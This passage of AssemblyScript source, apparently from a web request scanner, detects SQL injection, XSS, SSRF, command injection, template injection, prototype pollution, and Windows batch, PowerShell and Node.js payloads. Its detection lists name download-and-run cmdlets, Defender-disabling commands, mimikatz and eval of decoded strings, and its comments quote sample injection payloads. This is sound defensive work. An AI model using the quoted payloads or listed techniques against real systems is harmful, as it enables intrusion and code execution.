  if (!(f & (P_SLASH | P_DOTDOT | P_COLON))) mask &= ~((1 << AttackClass.Traversal) | (1 << AttackClass.Rfi) | (1 << AttackClass.Ssrf));
  if (!(f & (P_COLON | P_SLASH))) mask &= ~((1 << AttackClass.Rfi) | (1 << AttackClass.Ssrf));
  // Without a ':' (no scheme, no IPv6 host), SSRF is a value starting "//" (protocol-relative) or the metadata
  // address written out, which has digits: "Europe/Berlin", "application/json", "/var/lib/x" are neither.
  // (Or an internal host name with a path: localhost/, host.docker.internal/x, kubernetes.default.svc/.)
  if (!(f & (P_COLON | P_DIGIT)) && !(nb(0) == 0x2f && nb(1) == 0x2f) && !mayStartWithInternalHost()) mask &= ~(1 << AttackClass.Ssrf);
  if (!(f & (P_SHELL | P_SPACE_DASH)) && (f & (P_PAREN | P_QUOTE)) != (P_PAREN | P_QUOTE) && (f & (P_BRACKET | P_SLASH)) != (P_BRACKET | P_SLASH) &&
      (f & (P_PAREN | P_BRACE)) != (P_PAREN | P_BRACE) && !((f & P_BRACE) && nb(0) == 0x7b) && (f & (P_BANG | P_SLASH)) != (P_BANG | P_SLASH) && !probeStart()) mask &= ~(1 << AttackClass.Cmdi);
  if (!(f & P_LT) || !(f & (P_COLON | P_BANG))) mask &= ~(1 << AttackClass.Xxe); // <!entity, <!doctype, xi:include
  if (!(f & (P_BRACE | P_LT | P_HASH))) mask &= ~(1 << AttackClass.Ssti);
  if (!(f & (P_UNDERSCORE | P_DOT | P_BRACKET))) mask &= ~(1 << AttackClass.PrototypePollution); // __proto__, constructor.prototype / [prototype]
  // A line break, an LDAP filter's '(', or an extensible match's ':='.
  if (!(f & (P_BREAK | P_PAREN)) && (f & (P_COLON | P_EQ)) != (P_COLON | P_EQ)) mask &= ~(1 << AttackClass.Protocol);
  if (f & P_BACKTICK_FENCE) computeFences(); else fenced = false;
  if ((mask & (1 << AttackClass.Jndi)) && jndiOnNormalized()) found |= 1 << AttackClass.Jndi;
  if ((mask & (1 << AttackClass.Sqli)) && sqliOnNormalized()) found |= 1 << AttackClass.Sqli;
  if ((mask & (1 << AttackClass.Xss)) && xssOnNormalized()) found |= 1 << AttackClass.Xss;
  else if ((mask & (1 << AttackClass.Xss)) && (f & (P_BRACKET | P_BANG)) == (P_BRACKET | P_BANG) && jsfuckValue()) { lastRule = "xss:jsfuck"; found |= 1 << AttackClass.Xss; }
  if ((mask & (1 << AttackClass.Traversal)) && traversalOnNormalized()) found |= 1 << AttackClass.Traversal;
  if ((mask & (1 << AttackClass.Rfi)) && rfiOnNormalized()) found |= 1 << AttackClass.Rfi;
  if ((mask & (1 << AttackClass.Cmdi)) && cmdiOnNormalized()) found |= 1 << AttackClass.Cmdi;
  if ((mask & (1 << AttackClass.Ssrf)) && ssrfOnNormalized()) found |= 1 << AttackClass.Ssrf;
  if ((mask & (1 << AttackClass.Xxe)) && xxeOnNormalized()) found |= 1 << AttackClass.Xxe;
  if ((mask & (1 << AttackClass.Ssti)) && sstiOnNormalized()) found |= 1 << AttackClass.Ssti;
  // Razor's "@(7*7)" and "@System.…" pass none of the gates above: read where an '@' and a '(' are.
  else if (wantSsti && (f & (P_HASH_AT_STAR | P_PAREN)) == (P_HASH_AT_STAR | P_PAREN) && razorCode()) found |= 1 << AttackClass.Ssti;
  // A template engine's render probe without its delimiters in sight: two numbers of 9+ digits added inside
  // brackets or after '=' (str(4028888784+2519945525), {100040066+402389071}, =165634661+154027428).
  if (wantSsti && (found & (1 << AttackClass.Ssti)) == 0 && (f & (P_DIGIT | P_SQL_OTHER)) == (P_DIGIT | P_SQL_OTHER) && bigSumProbe()) { lastRule = "ssti:arithmetic-probe"; found |= 1 << AttackClass.Ssti; }
  if ((mask & (1 << AttackClass.PrototypePollution)) && prototypeOnNormalized()) found |= 1 << AttackClass.PrototypePollution;
  if ((mask & (1 << AttackClass.Protocol)) && protocolOnNormalized(f)) found |= 1 << AttackClass.Protocol;
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && javaExecOnNormalized()) found |= 1 << AttackClass.Cmdi;
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & (P_PAREN | P_DOLLAR)) != 0 && phpOnNormalized()) found |= 1 << AttackClass.Cmdi;
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && phpObjectOnNormalized()) found |= 1 << AttackClass.Cmdi;
  // system(whoami), exec(uname -a): a bare command name, no quote (the cmdi gate above may have passed it by).
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & (P_PAREN | P_QUOTE)) == P_PAREN && execCallAt()) found |= 1 << AttackClass.Cmdi;
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & (P_DOLLAR | P_UNDERSCORE | P_DOT | P_BRACKET | P_PAREN)) != 0 && nodeCodeOnNormalized()) found |= 1 << AttackClass.Cmdi;
  // The Function constructor by name, called (new Function ("return process")()): eval under another name.
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & P_PAREN) != 0 && newFunctionCall()) { lastRule = "cmdi:js-function-constructor"; found |= 1 << AttackClass.Cmdi; }
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & P_PAREN) != 0 && constantLoop()) { lastRule = "cmdi:js-infinite-loop"; found |= 1 << AttackClass.Cmdi; }
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & P_SQL_OTHER) != 0 && batchOnNormalized()) found |= 1 << AttackClass.Cmdi;
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & P_SQL_OTHER) != 0 && prefixedCommandLine()) found |= 1 << AttackClass.Cmdi;
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & (P_DASH | P_DOT)) != 0 && powershellOnNormalized()) found |= 1 << AttackClass.Cmdi;
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & (P_PAREN | P_BRACKET)) != 0 && bracketedCallable()) { lastRule = "cmdi:bracketed-callable"; found |= 1 << AttackClass.Cmdi; }
  // Smarty's {php}…{/php} runs what it holds (removed from Smarty 3 but still in old templates that render input).
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & P_BRACE) != 0 && (indexOf("{php}", 0) >= 0 || indexOf("{/php}", 0) >= 0)) { lastRule = "cmdi:smarty-php-tag"; found |= 1 << AttackClass.Cmdi; }
  if ((wantCmdi || (mask & (1 << AttackClass.Xss)) != 0) && (found & ((1 << AttackClass.Cmdi) | (1 << AttackClass.Xss))) == 0 && (f & P_QUOTE) != 0) {
    const c = concatenatedCallable();
    if (c != AttackClass.None && (c == AttackClass.Cmdi ? wantCmdi : (mask & (1 << AttackClass.Xss)) != 0)) { lastRule = c == AttackClass.Cmdi ? "cmdi:concatenated-name" : "xss:concatenated-name"; found |= 1 << <u32>c; }
  }
  if (wantSqli && (found & (1 << AttackClass.Sqli)) == 0 && (f & P_PAREN) != 0 && sqlFunctionOpening()) { lastRule = "sqli:function-opening"; found |= 1 << AttackClass.Sqli; }
  if (wantCmdi && (found & (1 << AttackClass.Cmdi)) == 0 && (f & P_PAREN) != 0 && md5OutputProbe()) { lastRule = "cmdi:code-probe"; found |= 1 << AttackClass.Cmdi; }
  if ((mask & (1 << AttackClass.Scanner)) && (f & P_DOT) && oastDomainIn(normPtr, normLen)) { if (found == 0) lastRule = "scanner:oast-domain"; found |= 1 << AttackClass.Scanner; }
  return found;
}

// JavaScript written with six characters ("(![]+[])[+!+[]]", "+!![]": JSFuck, CRS 941360): a value of only
// [ ] ( ) ! + and blanks, five or more of them, with an array negated ("![]"). No text or data is made of them.
function jsfuckValue(): bool {
  let n = 0;
  for (let i = 0; i < normLen; i++) {
    const c = nb(i);
    if (c == 0x5b || c == 0x5d || c == 0x28 || c == 0x29 || c == 0x21 || c == 0x2b) n++;
    else if (!isSpace(c)) return false;
  }
  return n >= 5 && indexOf("![]", 0) >= 0;
}

// A value that is only a SQL function's name and its opening parenthesis ("md5(", "COALESCE (", "rand(",
// "hex\("): a probe for which function the query it lands in will run (CRS 942151). Whole value only: a
// word and '(' inside text or code are other things.
const SQL_PROBE_FUNCTIONS =
  "md5|sha1|sha2|hex|unhex|ord|ascii|char|chr|substr|substring|mid|concat|concat_ws|coalesce|ifnull|nullif" +
  "|isnull|nvl|rand|random|pow|power|cos|sin|floor|database|schema|user|current_user|system_user" +
  "|session_user|version|sysdate|now|trim|ltrim|rtrim|insert|compress|uncompress|decode|encode|find_in_set" +
  "|elt|length|char_length|lower|upper|lcase|ucase|reverse|replace|repeat|space|conv|bin|oct|load_file|sleep" +
  "|benchmark|extractvalue|updatexml|group_concat|cast|convert|if|instr|locate|position|strcmp|soundex|md4" +
  "|crc32|aes_decrypt|aes_encrypt|des_decrypt|from_base64|to_base64|unicode|nchar|quotename|db_name" +
  "|host_name|suser_name|is_srvrolemember|pg_sleep";
function sqlFunctionOpening(): bool {
  const s = skipBlanks(0);
  let e = normLen;
  while (e > s && isSpace(nb(e - 1))) e--;
  if (e - s < 3 || nb(e - 1) != 0x28) return false;
  let w = e - 1;
  if (nb(w - 1) == 0x5c) w--; // md5\(
  while (w > s && isSpace(nb(w - 1))) w--;
  for (let k = s; k < w; k++) if (!(isAlpha(nb(k)) || isDigit(nb(k)) || nb(k) == 0x5f)) return false;
  return inWordList(SQL_PROBE_FUNCTIONS, normPtr + <usize>s, w - s);
}

// ---- Prototype pollution -------------------------------------------------------------------------------------
// A JavaScript back end that merges or sets by path what a request sends (lodash merge/set, qs, jQuery extend)
// writes through "__proto__" or constructor.prototype into every object's prototype (CRS 934130): query names
// __proto__[isAdmin]=1, constructor[prototype][x]=1, paths "__proto__.polluted", cookies, and JSON keys (the
// JSON scanner reads keys structurally, see body.ts). Escaped spellings are decoded first (__\u0070roto__).
// The first "constructor" of the normalized value (prototype pollution and the Node.js rules both look for
// it: searched once per value). -2: not searched yet.
let constructorAt: i32 = -2;
function firstConstructor(): i32 {
  if (constructorAt == -2) constructorAt = indexOf("constructor", 0);
  return constructorAt;
}
function prototypeOnNormalized(): bool {
  // __proto__ as a name of its own (a letter or digit before it makes another name: no__proto__.js).
  if (present & P_UNDERSCORE) {
    for (let i = indexOf("__proto__", 0); i >= 0; i = indexOf("__proto__", i + 9)) {
      if (i == 0 || !(isAlpha(nb(i - 1)) || isDigit(nb(i - 1)))) { lastRule = "prototype_pollution:proto"; return true; }
    }
  }
  if (!(present & (P_DOT | P_BRACKET))) return false;
  // constructor, then '.' or '[' (quotes, ']' and blanks around them allowed), then prototype.
  for (let i = firstConstructor(); i >= 0; i = indexOf("constructor", i + 11)) {
    let j = i + 11;
    while (j < normLen && (nb(j) == 0x22 || nb(j) == 0x27 || nb(j) == 0x5d || isSpace(nb(j)))) j++;
    if (nb(j) != 0x2e && nb(j) != 0x5b) continue;
    j++;
    while (j < normLen && (nb(j) == 0x22 || nb(j) == 0x27 || isSpace(nb(j)))) j++;
    if (startsAt(j, "prototype")) { lastRule = "prototype_pollution:constructor-prototype"; return true; }
  }
  return false;
}

// ---- Windows batch (reported as cmdi) ---------------------------------------------------------------------------
// cmd.exe's loops and conditions (CRS 932140), which need no shell separator to run once injected into a
// command line: FOR [/D /R /L /F [path] ["options"]] %var IN (…) DO …, and IF [/I] [NOT] with EXIST,
// DEFINED, ERRORLEVEL or a comparison (== EQU NEQ LSS LEQ GTR GEQ) followed by a command or '('. Prose has
// "for" and "if" but not "%x in (" nor "exist file echo".
const BATCH_COMMANDS: StaticArray<string> = ["echo", "@echo", "goto", "call", "set", "cmd", "exit", "del", "copy", "md", "mkdir", "cd", "start", "type", "rd",
  "ren", "move", "pause", "shift", "erase", "dir", "powershell"];
const BATCH_COMPARATORS: StaticArray<string> = ["equ", "neq", "lss", "leq", "gtr", "geq"];
// The end of the blank-separated token starting at i.
function tokenEnd(i: i32): i32 { while (i < normLen && !isSpace(nb(i))) i++; return i; }
function skipBlanks(i: i32): i32 { while (i < normLen && isSpace(nb(i))) i++; return i; }
@inline function wordStartAt(i: i32): bool { return i == 0 || !isWordByte(nb(i - 1)); }
function batchCommandAt(i: i32): bool {
  if (nb(i) == 0x28) return true;
  const e = tokenEnd(i);
  for (let k = 0; k < BATCH_COMMANDS.length; k++) if (wordEquals(i, e, unchecked(BATCH_COMMANDS[k]))) return true;
  return false;
}
function batchForAt(i: i32): bool {
  // Up to 4 switches, quoted options or a path before the variable.
  let k = skipBlanks(i + 3);
  for (let t = 0; t < 5 && k < normLen; t++) {
    if (nb(k) == 0x25 && k + 1 < normLen && !isSpace(nb(k + 1))) {
      const v = skipBlanks(tokenEnd(k));
      if (!(startsAt(v, "in") && (v + 2 >= normLen || isSpace(nb(v + 2)) || nb(v + 2) == 0x28))) return false;
      return nb(skipBlanks(v + 2)) == 0x28;
    }
    if (nb(k) == 0x22) { let q = k + 1; while (q < normLen && nb(q) != 0x22) q++; k = skipBlanks(q + 1); continue; }
    k = skipBlanks(tokenEnd(k));
  }
  return false;
}
// The end of a batch operand at i: a quoted one ("A A", "Hello, World!") to its closing quote, else the token.
function batchOperandEnd(i: i32): i32 {
  if (nb(i) != 0x22) return tokenEnd(i);
  let q = i + 1;
  while (q < normLen && q - i < 128 && nb(q) != 0x22) q++;
  if (nb(q) != 0x22) return tokenEnd(i);
  q++;
  // "a"=="b": the comparison may follow the closing quote without a blank
  return nb(q) == 0x3d ? tokenEnd(q) : q;
}
function batchIfAt(i: i32, depth: i32 = 0): bool {
  let k = skipBlanks(i + 2);
  if (nb(i + 2) == 0x2f) k = i + 2; // if/i
  if (startsAt(k, "/i") && isSpace(nb(k + 2))) k = skipBlanks(k + 2);
  if (startsAt(k, "not") && isSpace(nb(k + 3))) k = skipBlanks(k + 3);
  // EXIST path, DEFINED name, ERRORLEVEL n, CMDEXTVERSION n: then a command (or another IF: IF ERRORLEVEL 3 IF NOT …).
  const e = tokenEnd(k);
  if (wordEquals(k, e, "exist") || wordEquals(k, e, "defined") || wordEquals(k, e, "errorlevel") || wordEquals(k, e, "cmdextversion")) {
    const operand = skipBlanks(e);
    if (operand >= normLen) return false;
    const next = skipBlanks(tokenEnd(operand));
    // (two conditions chained, "IF ERRORLEVEL 3 IF NOT ERRORLEVEL 4": batch's only AND)
    if (startsAt(next, "if") && isSpace(nb(next + 2))) { const n2 = skipBlanks(next + 2); const w2 = startsAt(n2, "not") ? skipBlanks(n2 + 3) : n2;
      const e2 = tokenEnd(w2); if (wordEquals(w2, e2, "errorlevel") || wordEquals(w2, e2, "exist") || wordEquals(w2, e2, "defined")) return true;
      if (depth < 3) return batchIfAt(next, depth + 1); }
    return batchCommandAt(next);
  }
  // A comparison: "a==b", "a == b", "a EQU b", "(a GEQ b)", then a command. A batch variable compared ("%1",
  // "%VAR%", "%~1", "%%A", {%1}, [%1]) is batch whatever follows: no other language writes it so.
  let c = k;
  if (nb(c) == 0x28) c++;
  const batchVariable = nb(c) != 0x28 && holdsBatchVariable(c, batchOperandEnd(c));
  for (let t = 0; t < 3 && c < normLen; t++) {
    const te = batchOperandEnd(c);
    for (let q = c; q + 1 < te; q++) if (nb(q) == 0x3d && nb(q + 1) == 0x3d) { // == inside or as the token
      if (batchVariable) return true;
      const right = q + 2 < te ? te : batchOperandEnd(skipBlanks(te));
      return batchCommandAt(skipBlanks(right));
    }
    for (let m = 0; m < BATCH_COMPARATORS.length; m++) {
      if (!wordEquals(c, te, unchecked(BATCH_COMPARATORS[m]))) continue;
      if (batchVariable) return true;
      let right = batchOperandEnd(skipBlanks(te));
      return batchCommandAt(skipBlanks(right));
    }
    c = skipBlanks(te);
  }
  return false;
}
// A batch variable in [s, e): %1 … %9, %~1, %NAME%, %%A.
function holdsBatchVariable(s: i32, e: i32): bool {
  for (let q = s; q + 1 < e; q++) {
    if (nb(q) != 0x25) continue;
    const d = nb(q + 1);
    if (isDigit(d) || d == 0x7e || d == 0x25) return true;
    if (isAlpha(d)) { let r = q + 1; while (r < e && (isAlpha(nb(r)) || isDigit(nb(r)) || nb(r) == 0x5f)) r++; if (nb(r) == 0x25) return true; }
  }
  return false;
}
// A statement starts the value or follows a separator (& | ; newline or '('): prose is read at its start only.
function batchStatementAt(i: i32): bool {
  if (startsAt(i, "for") && isSpace(nb(i + 3)) && (present & P_PERCENT) && batchForAt(i)) { lastRule = "cmdi:batch-for"; return true; }
  if (startsAt(i, "if") && (isSpace(nb(i + 2)) || (nb(i + 2) == 0x2f && (nb(i + 3) == 0x69))) && batchIfAt(i)) { lastRule = "cmdi:batch-if"; return true; }
  // SET /A evaluates arithmetic (the probe "| set /a 3482*7301" echoes the product), SET /P reads input.
  if (startsAt(i, "set") && isSpace(nb(i + 3))) {
    const k = skipBlanks(i + 4);
    if (nb(k) == 0x2f && (nb(k + 1) == 0x61 || nb(k + 1) == 0x70) && (isSpace(nb(k + 2)) || k + 2 >= normLen)) { lastRule = "cmdi:batch-set"; return true; }
  }
  return false;
}
const SET_BATCH_SEP = byteSet("&|;\n(\x1a");
// PowerShell cmdlets that fetch or run code (CRS 932120), which need no shell separator in a value a script
// passes on: Invoke-WebRequest/-RestMethod/-Expression/-Command/-WmiMethod/-Item, Start-Process,
// Start-BitsTransfer, New-Object Net.WebClient, .DownloadString(/.DownloadFile(, Set-MpPreference (turning
// Defender off). The cmdlet must be followed by an argument (a blank then something): a name in prose
// ("the Invoke-WebRequest cmdlet") is followed by a word, which is accepted as an argument only when it is a
// flag, a URL, a path or a quoted string.
const PS_INVOKE_NOUNS: StaticArray<string> = ["webrequest", "restmethod", "expression", "command", "wmimethod", "item", "shellcode", "mimikatz"];
const PS_VERBS: StaticArray<string> = ["start-process", "start-bitstransfer", "set-mppreference", "add-mppreference"];
function powershellOnNormalized(): bool {
  if (present & P_DASH) {
    for (let i = indexOf("invoke-", 0); i >= 0; i = indexOf("invoke-", i + 7)) {
      if (i > 0 && isWordByte(nb(i - 1))) continue;
      for (let k = 0; k < PS_INVOKE_NOUNS.length; k++) {
        const w = unchecked(PS_INVOKE_NOUNS[k]);
        if (startsAt(i + 7, w) && !isWordByte(nb(i + 7 + w.length)) && cmdletArgument(i + 7 + w.length)) return true;
      }
    }
    for (let k = 0; k < PS_VERBS.length; k++) {
      const w = unchecked(PS_VERBS[k]);
      for (let i = indexOf(w, 0); i >= 0; i = indexOf(w, i + 1)) if ((i == 0 || !isWordByte(nb(i - 1))) && !isWordByte(nb(i + w.length)) && cmdletArgument(i + w.length)) return true;
    }
    for (let i = indexOf("new-object", 0); i >= 0; i = indexOf("new-object", i + 10)) {
      let j = i + 10;
      while (j < normLen && isSpace(nb(j))) j++;
      if (startsAt(j, "net.webclient") || startsAt(j, "system.net.webclient") || startsAt(j, "-comobject")) return true;
    }
  }
  if (present & P_PAREN) {
    if (indexOf(".downloadstring(", 0) >= 0 || indexOf(".downloadfile(", 0) >= 0 || indexOf(".downloaddata(", 0) >= 0) return true;
  }
  return false;
}
// After a cmdlet at j: blanks, then a flag (-Uri), a URL or path, a quoted string, a variable or a '('.
function cmdletArgument(j: i32): bool {
  if (!isSpace(nb(j))) return nb(j) == 0x28 || nb(j) == 0x7c || nb(j) == 0x3b;
  while (j < normLen && isSpace(nb(j))) j++;
  const c = nb(j);
  return c == 0x2d || c == 0x22 || c == 0x27 || c == 0x24 || c == 0x28 || c == 0x2f || c == 0x5c || startsAt(j, "http:") || startsAt(j, "https:") ||
    (isAlpha(c) && nb(j + 1) == 0x3a) || wordThenDot(j);
}
// A word with a '.' in it at j (file.ps1, example.com/x).
function wordThenDot(j: i32): bool {
  while (j < normLen && isWordByte(nb(j))) j++;
  return nb(j) == 0x2e && isWordByte(nb(j + 1));
}

function batchOnNormalized(): bool {
  if (batchStatementAt(skipBlanks(0))) return true;
  // After a separator only with a batch variable or a comparison: "& FOR %a IN …", "| IF %x%==1 …" (a user
  // agent's "(Windows NT 10.0; …)" is not looked at).
  if (!(present & (P_SHELL | P_PAREN)) || (!(present & (P_PERCENT | P_EQ)) && indexOf("set", 0) < 0)) return false;
  for (let i = 0; i < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_BATCH_SEP);
    if (i >= normLen) break;
    const c = nb(i);
    if (!(c == 0x26 || c == 0x7c || c == 0x3b || c == 0x0a || c == 0x28 || c == 0x1a)) continue;
    let k = i + 1;
    while (k < normLen && (isSpace(nb(k)) || nb(k) == 0x26 || nb(k) == 0x7c || nb(k) == 0x40)) k++; // && || @
    if (batchStatementAt(k)) return true;
  }
  return false;
}

// A value that is a command run through another (CRS 932235/932236): nohup, strace, time, sudo, env,
// cpulimit -l 100 -f … before a command word ("strace ifconfig", "time curl example.org"), their options
// skipped; or a shell alias being defined (CRS 932175: "alias a=c${KK}url", "alias -p x=id").
function prefixedCommandLine(): bool {
  if (fenced) return false;
  // The first word: letters only and one of the prefixes, or spelled with the quotes and backslashes the
  // command view removes (ti''me); only then is the view built.
  const v = skipBlanks(0);
  let e = v;
  let spelled = false;
  while (e < normLen && !isSpace(nb(e))) { const c = nb(e); if (c == 0x27 || c == 0x22 || c == 0x5c) spelled = true; else if (!isAlpha(c)) break; e++; }
  if (e >= normLen || !isSpace(nb(e)) || e - v < 3) return false;
  if (!spelled && !startsWithCommandPrefix(normPtr + <usize>v, normLen - v)) return false;
  buildCmdView();
  let k = 0;
  while (k < cmdLen && isSpace(cb(k))) k++;
  if (!startsWithCommandPrefix(cmdBuf + <usize>k, cmdLen - k)) return false;
  let we = k;
  while (we < cmdLen && isAlpha(cb(we))) we++;
  const alias = we - k == 5 && cb(k) == 0x61 && cb(k + 1) == 0x6c; // "alias"
  k = we;
  for (let t = 0; t < 6 && k < cmdLen; t++) {
    while (k < cmdLen && isSpace(cb(k))) k++;
    const c = cb(k);
    if (c == 0x2d || c == 0x2b || isDigit(c)) { while (k < cmdLen && !isSpace(cb(k))) k++; continue; } // options and their numbers
    if (alias) { // name=value (a quoted name too)
      for (let q = k; q < cmdLen && !isSpace(cb(q)); q++) if (cb(q) == 0x3d) { lastRule = "cmdi:alias"; return q > k; }
      return false;
    }
    if (cmdWordAt(k)) { lastRule = "cmdi:prefixed-command"; return true; }
    if (!startsWithCommandPrefix(cmdBuf + <usize>k, cmdLen - k)) return false;
    while (k < cmdLen && isAlpha(cb(k))) k++; // sudo nohup x
  }
  return false;
}

// ---- Node.js code (reported as cmdi) ---------------------------------------------------------------------------
// What only code aimed at a Node.js back end holds (CRS 934100): node-serialize's function marker
// (_$$ND_FUNC$$_, which unserialize() runs), the child_process module, process.mainModule (the way to
// require() from a sandbox), and constructor.constructor (the Function constructor from any object: a
// sandbox escape). process.env and require() alone are left alone: READMEs and stack traces hold them.
function nodeCodeOnNormalized(): bool {
  if ((present & P_DOLLAR) && indexOf("_$$nd_func$$_", 0) >= 0) { lastRule = "cmdi:node-serialize"; return true; }
  if ((present & P_UNDERSCORE) && indexOf("child_process", 0) >= 0) { lastRule = "cmdi:node-child-process"; return true; }
  // Python's __import__('os'), __import__("time").sleep(…): a module loaded by name inside an expression, what
  // template and eval injections send (SSTImap's Python, Jinja2, Mako, Cheetah, Tornado payloads).
  if ((present & (P_UNDERSCORE | P_PAREN)) == (P_UNDERSCORE | P_PAREN) && importCall()) { lastRule = "cmdi:python-import"; return true; }
  // eval() of a string decoded on the spot: eval(Buffer('…', 'base64').toString()), eval(atob('…')).
  if ((present & P_PAREN) && evalOfDecoded()) { lastRule = "cmdi:eval-decoded"; return true; }
  // Node's process and module loader indexed by a name (process["env"], process[mainModule], require[x]):
  // code reaching for them where a value belongs.
  if ((present & P_BRACKET) && nodeGlobalIndexed()) { lastRule = "cmdi:node-global-index"; return true; }
  // The Function constructor reached through any object (this.constructor.constructor, ''.constructor.constructor):
  // nothing but code writes it, with or without the call after it.
  if (present & P_DOT) {
    for (let i = firstConstructor(); i >= 0; i = indexOf("constructor", i + 11)) {
      if (startsAt(i + 11, ".constructor")) { lastRule = "cmdi:node-function-constructor"; return true; }
    }
  }
  // The dotted forms are used with a call, an index or a string (…mainModule.require('fs')): URLs and prose
  // with dots skip the search.
  // React Server Components' Flight references walking to the Function constructor or a prototype
  // ("$3:constructor:constructor", "$7:Module:prototype:_compile": CVE-2025-55182).
  if ((present & (P_DOLLAR | P_COLON)) == (P_DOLLAR | P_COLON) && flightReferenceGadget()) { lastRule = "cmdi:react-flight-reference"; return true; }
  if (!(present & P_DOT) || !(present & (P_PAREN | P_BRACKET | P_QUOTE))) return false;
  if (indexOf("process.mainmodule", 0) >= 0) { lastRule = "cmdi:node-main-module"; return true; }
  // Ruby's ways to run a command: Process.spawn("id"), Kernel.exec, IO.popen, Open3.capture2, PTY.spawn.
  if ((present & P_PAREN) && rubyExecCall()) { lastRule = "cmdi:ruby-exec"; return true; }
  return false;
}
// "__import__" then '(' and a quote (blanks allowed between).
function importCall(): bool {
  for (let i = indexOf("__import__", 0); i >= 0; i = indexOf("__import__", i + 10)) {
    let j = skipBlanks(i + 10);
    if (nb(j) != 0x28) continue;
    j = skipBlanks(j + 1);
    const q = nb(j);
    if (q == 0x27 || q == 0x22) return true;
  }
  return false;
}
// "eval(" then Buffer( / Buffer.from( / atob( / base64 / __import__ as its argument.
function evalOfDecoded(): bool {
  for (let i = indexOf("eval", 0); i >= 0; i = indexOf("eval", i + 4)) {
    if (i > 0 && isWordByte(nb(i - 1))) continue;
    let j = skipBlanks(i + 4);
    if (nb(j) != 0x28) continue;
    j = skipBlanks(j + 1);
    if (startsAt(j, "buffer(") || startsAt(j, "buffer.from(") || startsAt(j, "atob(") || startsAt(j, "__import__") || startsAt(j, "base64")) return true;
  }
  return false;
}

// "new Function(" with any blanks between the words and before the parenthesis, then a string, ')' or the
// value's end: "new functional(1)" and prose's "a new function (see docs)" are none.
function newFunctionCall(): bool {
  for (let i = indexOf("function", 0); i >= 0; i = indexOf("function", i + 8)) {
    let j = skipBlanks(i + 8);
    if (nb(j) != 0x28) continue;
    j = skipBlanks(j + 1);
    const a = nb(j);
    if (!(j >= normLen || a == 0x22 || a == 0x27 || a == 0x60 || a == 0x29)) continue;
    let b = i;
    while (b > 0 && isSpace(nb(b - 1))) b--;
    if (b == i || b < 3 || !wordEquals(b - 3, b, "new") || (b > 3 && isWordByte(nb(b - 4)))) continue;
    return true;
  }
  return false;
}
// Ruby's ways to run a command, as receiver.method: Process.spawn("id"), Kernel.exec, IO.popen, Open3.capture2,
// PTY.spawn. One pass over the dots (a User-Agent has eight, none of them these).
const RUBY_RECEIVERS: StaticArray<string> = ["process", "kernel", "io", "open3", "pty"];
const RUBY_METHODS: StaticArray<string> = ["spawn", "exec", "system", "popen", "capture"];
function rubyExecCall(): bool {
  for (let i = nextInSet(normPtr, 0, normLen, SET_DOT); i < normLen; i = nextInSet(normPtr, i + 1, normLen, SET_DOT)) {
    if (nb(i) != 0x2e) continue;
    // The methods start with s, e, p or c: dots before digits (versions) and other words end here.
    const m0 = nb(i + 1);
    if (m0 != 0x73 && m0 != 0x65 && m0 != 0x70 && m0 != 0x63) continue;
    let s = i;
    while (s > 0 && (isAlpha(nb(s - 1)) || isDigit(nb(s - 1)))) s--;
    if (i - s < 2 || i - s > 7 || (s > 0 && (isWordByte(nb(s - 1)) || nb(s - 1) == 0x2e))) continue;
    let receiver = false;
    for (let k = 0; k < RUBY_RECEIVERS.length && !receiver; k++) receiver = wordEquals(s, i, unchecked(RUBY_RECEIVERS[k]));
    if (!receiver) continue;
    let e = i + 1;
    while (e < normLen && isWordByte(nb(e))) e++;
    let method = false;
    for (let k = 0; k < RUBY_METHODS.length && !method; k++) method = startsAt(i + 1, unchecked(RUBY_METHODS[k]));
    if (!method) continue;
    let j = e;
    while (isSpace(nb(j))) j++;
    if (nb(j) == 0x28) return true;
  }
  return false;
}
// A Flight reference: '$', an id (hex digits or a tag letter and digits), then ':'-separated property names, one
// of them walking to code: constructor twice, or prototype / __proto__.
const SET_FLIGHT_DOLLAR = byteSet("$");
function flightReferenceGadget(): bool {
  for (let i = nextInSet(normPtr, 0, normLen, SET_FLIGHT_DOLLAR); i < normLen; i = nextInSet(normPtr, i + 1, normLen, SET_FLIGHT_DOLLAR)) {
    if (nb(i) != 0x24) continue;
    let j = i + 1;
    while (j < normLen && j - i <= 9 && (isDigit(nb(j)) || isAlpha(nb(j)) || nb(j) == 0x40)) j++;
    if (j == i + 1 || nb(j) != 0x3a) continue;
    let constructors = 0;
    // Eight names at most, each a word (a reference path is short; "$1:$1:…" repeated must not be walked from
    // every '$').
    for (let segments = 0; segments < 8 && nb(j) == 0x3a; segments++) {
      const s = j + 1;
      j = s;
      while (j < normLen && j - s < 64 && (isWordByte(nb(j)) || nb(j) == 0x2d)) j++; // "prototype-ish" is another name
      if (j == s) break;
      if (wordEquals(s, j, "constructor")) { if (++constructors == 2) return true; }
      else if (wordEquals(s, j, "prototype") || wordEquals(s, j, "__proto__")) return true;
    }
  }
  return false;
}

function nodeGlobalIndexed(): bool {
  for (let i = indexOf("[", 0); i >= 0; i = indexOf("[", i + 1)) {
    let s = i;
    while (s > 0 && isAlpha(nb(s - 1))) s--;
    if (s > 0 && (isWordByte(nb(s - 1)) || nb(s - 1) == 0x2e)) continue; // a name of its own (myprocess[, x.process[)
    if (!(wordEquals(s, i, "process") || wordEquals(s, i, "require"))) continue;
    const c = nb(i + 1);
    if (c == 0x22 || c == 0x27 || c == 0x60 || isAlpha(c)) return true;
  }
  return false;
}

// A loop on a constant, as the whole value: code sent to an eval that never returns (CRS 934160, a Node.js
// denial of service): while(true), while(!0), while(!!{}), while(new Date), for(;;). Its condition holds
// literals and value names only (while(i < n) has a variable); prose does not start with "while(".
const LOOP_WORDS: StaticArray<string> = ["true", "false", "null", "undefined", "nan", "infinity", "this", "new", "date", "string", "number", "object", "array", "boolean"];
